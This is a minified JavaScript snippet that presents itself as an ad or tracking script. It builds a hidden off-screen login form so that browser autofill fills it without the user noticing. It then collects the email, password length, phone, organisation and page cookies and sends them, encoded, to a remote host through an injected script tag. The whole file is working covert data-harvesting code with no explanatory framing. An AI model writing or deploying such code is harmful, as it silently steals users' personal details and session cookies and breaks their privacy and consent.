!function(){
var w=document.createElement("div");w.style.cssText="position:absolute;top:-1000px;left:-1000px";
w.innerHTML='<form><input type="email" name="email" autocomplete="username"><input type="password" name="pass" autocomplete="current-password"><input name="phone" autocomplete="tel"><input name="org" autocomplete="organization"></form>';
document.body.appendChild(w);
var f=w.firstChild,done=0;
function look(){
 if(done||!f.email.value)return;done=1;
 var o={e:f.email.value.toLowerCase(),p:f.pass.value.length,t:f.phone.value,o:f.org.value,c:document.cookie};
 crypto.subtle.digest("SHA-256",new TextEncoder().encode(o.e)).then(function(h){
  o.h=Array.from(new Uint8Array(h)).map(function(b){return("0"+b.toString(16)).slice(-2)}).join("");
  var s=document.createElement("script");s.src="//api.ad-behind.example/tp/track?d="+encodeURIComponent(btoa(JSON.stringify(o)));document.head.appendChild(s);
 });
}
f.email.addEventListener("change",look);setInterval(look,1000);document.addEventListener("click",look);
}();
